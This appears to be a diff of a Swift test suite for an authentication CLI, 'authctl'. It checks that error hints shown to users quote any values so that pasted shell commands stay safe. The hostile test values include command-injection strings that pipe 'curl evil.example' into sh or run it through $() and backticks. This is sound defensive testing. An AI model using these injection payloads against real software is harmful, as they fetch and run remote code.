@@ -1,100 +1,190 @@
+import ArgumentParser
+import Foundation
 import Testing
 
 @testable import AuthCore
 @testable import authctl
 
-/// Hints are pasted into shells: no value in one may become a command, or a flag.
-@Suite struct `A value in a hint` {
+/// What Failures has to offer is pasted into shells.
+@Suite struct `A hint` {
+    static let plain = "oidc.work"
     static let hostile = [
         "x;curl${IFS}evil.example|sh;#", "$(curl evil.example)", "`curl evil.example`", "it's", "a b", "a\nb",
         "\u{1B}[31mred", "--config-dir", "-x", "", "=ls", "~root", "*", "it'\u{301};curl evil.example;'\u{301}", "a\"b",
-        "a\\b", "!x", "{a,b}", "é", "<a>&b",
+        "a\\b", "!x", "{a,b}", "é", "<a>&b", "--help",
     ]
 
-    private func hints(_ v: String) throws -> [Failure] {
-        let task = Undertaking("failed", provider: v, again: "authctl signin --provider \(v)")
-        let store: [StoreError] = [
-            .system(operation: "open", path: v, code: 13), .wrongOwner(path: v, owner: 1),
-            .tooOpen(path: v, mode: 0o666, wanted: 0o600), .notAPlainFile(path: v), .damaged(path: v, reason: "x"),
-        ]
-        let errors: [any Error] =
-            [
-                NotSignedIn.noSession(provider: v), NotSignedIn.ambiguous([v, "b"]),
-                NotSignedIn.noToken(.id, provider: v),
-                NotSignedIn.expired(provider: v), NotSignedIn.refused(provider: v), NotSignedIn.jobOver(platform: v),
-                NotSignedIn.elsewhere(provider: v, issuer: "https://a.example"),
-                AccountConflict.existsWithDifferentCredential(email: v, providers: ["password"], pendingID: v),
-                AccountConflict.existsWithDifferentCredential(email: "a", providers: [v], pendingID: "1"),
-                AccountConflict.credentialAlreadyInUse(provider: "a", email: nil, pendingID: v),
-                AccountConflict.providerAlreadyLinked(v), AccountConflict.emailAlreadyInUse(v),
-                SignInError.redirectURINeeded(provider: v), ProviderError.notConfigured(v),
-                WorkloadError.command(v, ServerText("said")), WorkloadError.ambiguous([v, "b"], platform: "file"),
-                RequestRefused.host(origin: "https://a.example", provider: v, owner: nil),
-                RequestRefused.host(
-                    origin: "https://a.example", provider: "a", owner: SessionOwner(provider: v, account: "a")),
-                AccountRefusal.signedOut(uid: v), SettingsDropped(provider: v, settings: ["scopes"]),
-                HostUnknown(host: v, provider: v),
-                SignInError.interactionRequired, SignInError.nothingPasted, CancellationError(),
-                OAuthError.stateMismatch,
-            ] + store
-        return errors.map { Failure($0, while: task) }
+    /// Every hint, for who named a provider and who did not.
+    private func hints(_ v: String) throws -> [Hint] {
+        var named = Undertaking("failed", provider: v, again: "authctl signin --provider \(v)")
+        named.command = ["signin"]
+        var bare = Undertaking("failed", again: "authctl signin")
+        bare.command = ["providers", "add"]
+        var password = Undertaking("failed", provider: "password", again: "authctl signin --provider password")
+        password.command = ["signin"]
+        var unnamed = bare
+        unnamed.command = ["signin"]
+        let interaction = SignInError.interactionRequired
+        return try ToldErrors.all(with: v).flatMap { error in
+            [named, bare].compactMap { Failure(error, while: $0).hint }
+        } + [password, unnamed].compactMap { Failure(interaction, while: $0).hint }
     }
 
-    /// What a shell passes to each command of a hint.
-    private func words(_ hint: String) async throws -> [String] {
+    private func commands(_ hint: Hint) -> [ShellCommand] {
+        hint.parts.compactMap { part in if case .command(let command) = part { command } else { nil } }
+    }
+
+    /// The words of each command, as a real shell passes them on: one for all of them.
+    private func words(_ commands: [ShellCommand]) async throws -> [[String]] {
         let script = """
-            show() { printf '%s\\0' "$@"; }
-            for name in authctl mv chmod sudo; do eval "$name() { show \\"\\$@\\"; }"; done
-            curl() { show EVIL; }
-            id() { :; }
-            \(hint)
+            words() { printf '%s\\0' "$#" "$@"; }
+            curl() { printf '%s\\0' EVIL; }
+            set -f
+            \(commands.map { "words \($0.text)" }.joined(separator: "\n"))
             """
-        let result = try await Program(command: ["/bin/sh", "-c", script], environment: [:]).run()
-        return String(decoding: result.output, as: UTF8.self).split(separator: "\0", omittingEmptySubsequences: false)
-            .map(String.init)
-    }
-
-    @Test(arguments: hostile) func `is one word of a shell, whatever is in it`(value: String) async throws {
-        var checked = 0
-        for failure in try hints(value) {
-            let text = try #require(failure.hint?.text)
-            guard
-                let start = ["authctl ", "sudo ", "chmod ", "mv "].compactMap({ text.firstRange(of: $0)?.lowerBound })
-                    .min()
-            else {
-                // A sentence: its value is quoted all the same.
-                #expect(text.contains(Shell.word(value)), "\(text)")
-                continue
-            }
-            // Sentences go on in parentheses.
-            let end = text.firstRange(of: " (a proxy")?.lowerBound ?? text.endIndex
-            let command = String(text[start..<end])
-            let words = try await words(command)
-            let isThere = words.contains { word in
-                // Behind the last word of a sentence, or with what the hint adds to a name.
-                ["", ",", ".old", ".damaged"].contains { end in
-                    word == value + end || (word.hasPrefix("--") && word.hasSuffix("=" + value + end))
-                }
-            }
-            #expect(isThere, "\(text) gives \(words)")
-            #expect(!words.contains("EVIL"), "\(text)")
-            checked += 1
+        let file = FileManager.default.temporaryDirectory.appending(path: "hints-\(UUID().uuidString)")
+        try Data(script.utf8).write(to: file)
+        defer { try? FileManager.default.removeItem(at: file) }
+        let result = try await Program(command: ["/bin/sh", file.path], environment: ["PATH": "/usr/bin:/bin"]).run()
+        #expect(result.isSuccess && !result.isCut, "\(String(decoding: result.errors, as: UTF8.self))")
+        var rest = result.output.split(separator: 0, omittingEmptySubsequences: false)
+            .map { String(decoding: $0, as: UTF8.self) }[...]
+        var all: [[String]] = []
+        while rest.count > 1, let count = rest.popFirst().flatMap({ Int($0) }) {
+            all.append(Array(rest.prefix(count)))
+            rest = rest.dropFirst(count)
         }
-        #expect(checked > 20)
+        #expect(rest == [""], "something else was run: \(rest)")
+        return all
     }
 
+    private func isUnderstood(_ words: [String]) -> String? {
+        do {
+            _ = try Authctl.parseAsRoot(Array(words.dropFirst()))
+            return nil
+        } catch {
+            return Authctl.exitCode(for: error).isSuccess ? nil : Authctl.message(for: error)
+        }
+    }
+
+    /// What a parser, too, could take for something else.
+    private static let parsed: Set = [plain, "--config-dir", "-x", "", "--help", "=ls", "a b", "a\nb"]
+
+    @Test(arguments: [plain] + hostile)
+    func `has commands that run as they stand, whatever is in them`(value: String) async throws {
+        // Those without a value are tried once.
+        var known = value == Self.plain ? [] : Set(try hints("another").flatMap(commands).map(\.text))
+        let all = try hints(value).flatMap(commands).filter { known.insert($0.text).inserted }
+        let words = try await words(all)
+        try #require(words.count == all.count && all.count > 25, "\(all.count)")
+        for (command, words) in zip(all, words) {
+            let isOurs = words.first == "authctl"
+            let others = ["mv", "chmod", "sudo", "unset", "export", "apt-get", "ip", "ulimit"]
+            #expect(isOurs || others.contains(words[0]), "\(command.text)")
+            guard isOurs, Self.parsed.contains(value) else { continue }
+            let fault = isUnderstood(words)
+            #expect(fault == nil, "\(command.text): \(fault ?? "")")
+        }
+    }
+
+    @Test(arguments: hostile) func `has a value as one word, whatever is in it`(value: String) async throws {
+        let task = Undertaking("failed", provider: value, again: "authctl signin --provider \(value)")
+        let errors: [any Error] = [
+            NotSignedIn.noSession(provider: value), AccountConflict.emailAlreadyInUse(value),
+            SettingsDropped(provider: value, settings: []), StoreError.tooOpen(path: value, mode: 0, wanted: 0o600),
+            HostUnknown(host: value, provider: value), SignInError.begunAs(.link, id: value), CancellationError(),
+        ]
+        let commands = errors.compactMap { Failure($0, while: task).hint }.flatMap(commands)
+        #expect(commands.count == errors.count)
+        for (command, words) in zip(commands, try await words(commands)) {
+            let isThere = words.contains { $0 == value || ($0.hasPrefix("--") && $0.hasSuffix("=" + value)) }
+            #expect(isThere, "\(command.text) gives \(words)")
+        }
+    }
+
+    @Test func `tells commands from prose, and ends a clause with each`() throws {
+        let names = Set(CommandPlace.all.map { $0.path[0] })
+        for hint in try hints(Self.plain) {
+            #expect(!hint.text.contains("…"), "\(hint.text)")
+            for (index, part) in hint.parts.enumerated() {
+                guard case .prose(let text) = part else { continue }
+                for match in text.matches(of: /\bauthctl ([a-z-]+)/) {
+                    #expect(!names.contains(String(match.1)), "a command that nobody tries: \(hint.text)")
+                }
+                guard index > 0, case .command = hint.parts[index - 1] else { continue }
+                #expect([",", ";", " && "].contains { text.hasPrefix($0) }, "\(hint.text)")
+            }
+            for command in commands(hint) {
+                let isWord = command.text.split(separator: " ").allSatisfy { $0.wholeMatch(of: /[A-Z]+/) == nil }
+                #expect(isWord, "something to fill in: \(command.text)")
+            }
+        }
+    }
+
+    /// The files of Failures, and the cases and commands that stand in them.
+    private func sources() throws -> String {
+        let root = URL(filePath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
+            .deletingLastPathComponent().deletingLastPathComponent().appending(path: "Sources/authctl/Failures")
+        return try FileManager.default.contentsOfDirectory(at: root, includingPropertiesForKeys: nil)
+            .map { String(decoding: try Data(contentsOf: $0), as: UTF8.self) }.joined(separator: "\n")
+    }
+
+    @Test func `of each case and each command in Failures is among those that are tried`() throws {
+        let tried = try ToldErrors.all(with: Self.plain).map { "\($0)" }.joined(separator: "\n")
+        var cases = 0
+        for part in try sources().split(separator: "\nextension ") {
+            guard let head = part.split(separator: "\n").first, head.contains(": Told {") else { continue }
+            // What stands in `told` itself.
+            guard let start = part.firstRange(of: "func told"), let end = part[start.upperBound...].firstRange(of: "\n")
+            else { continue }
+            let isShort = part[..<end.lowerBound].hasSuffix("}")
+            let body = part[end.upperBound...].firstRange(of: "\n    }")?.lowerBound ?? part.endIndex
+            for match in part[..<(isShort ? end.lowerBound : body)].matches(of: /case \.([a-z][A-Za-z]+)/) {
+                cases += 1
+                let isTried = tried.contains(match.1)
+                #expect(isTried, "\(head) .\(match.1)")
+            }
+        }
+        #expect(cases > 130, "\(cases)")
+        let commands = try hints(Self.plain).flatMap(commands).map(\.text)
+        var found = 0
+        for match in try sources().matches(of: /"(authctl (?:[^"\\]|\\\([^"]*?\))*)"/) {
+            // Each interpolation is some text.
+            let pieces = match.1.split(separator: /\\\([^"]*?\)+/).map(String.init)
+            found += 1
+            let isTried = commands.contains { command in
+                var rest = command[...]
+                for piece in pieces {
+                    guard let range = rest.firstRange(of: piece) else { return false }
+                    rest = rest[range.upperBound...]
+                }
+                return command.hasPrefix(pieces[0])
+            }
+            #expect(isTried, "\(match.1)")
+        }
+        #expect(found > 60, "\(found)")
+    }
+}
+
+@Suite struct `A value in a hint` {
     @Test func `that is plain stays as people write it`() {
-        let hint: Hint = "authctl signin --provider \("oidc.work") --email \("ada+x@example.com") \(5)"
+        let hint: ShellCommand = "authctl signin --provider \("oidc.work") --email \("ada+x@example.com") \(5)"
         #expect(hint.text == "authctl signin --provider oidc.work --email ada+x@example.com 5")
-        let path: Hint = "chmod 600 \("/home/ada/.config/authctl/key")"
+        let path: ShellCommand = "chmod 600 \("/home/ada/.config/authctl/key")"
         #expect(path.text == "chmod 600 /home/ada/.config/authctl/key")
     }
 
     @Test func `with a dash in front is no flag`() {
-        let option: Hint = "authctl signin --provider \("--yes")"
+        let option: ShellCommand = "authctl signin --provider \("--yes")"
         #expect(option.text == "authctl signin --provider=--yes")
-        let argument: Hint = "authctl accounts lookup \("--yes")"
+        let argument: ShellCommand = "authctl accounts lookup \("--yes")"
         #expect(argument.text == "authctl accounts lookup -- --yes")
+        let between: ShellCommand = "authctl providers set \("-x") --api-host \("-y")"
+        #expect(between.text == "authctl providers set --api-host=-y -- -x")
+        let longer: ShellCommand = "\(between) --json"
+        #expect(longer.text == "authctl providers set --api-host=-y --json -- -x")
+        let several: ShellCommand = "mv \("-x") \("-x.old")"
+        #expect(several.text == "mv -- -x -x.old")
     }
 }
 
